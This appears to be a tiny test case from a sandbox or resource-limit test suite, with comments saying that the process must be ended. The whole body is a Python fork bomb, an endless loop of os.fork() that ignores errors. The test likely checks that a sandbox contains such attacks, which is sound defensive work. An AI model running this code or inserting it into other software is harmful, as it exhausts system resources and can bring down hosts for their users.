# attack: processes that make processes
# must: ended its process
# passed: 0
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
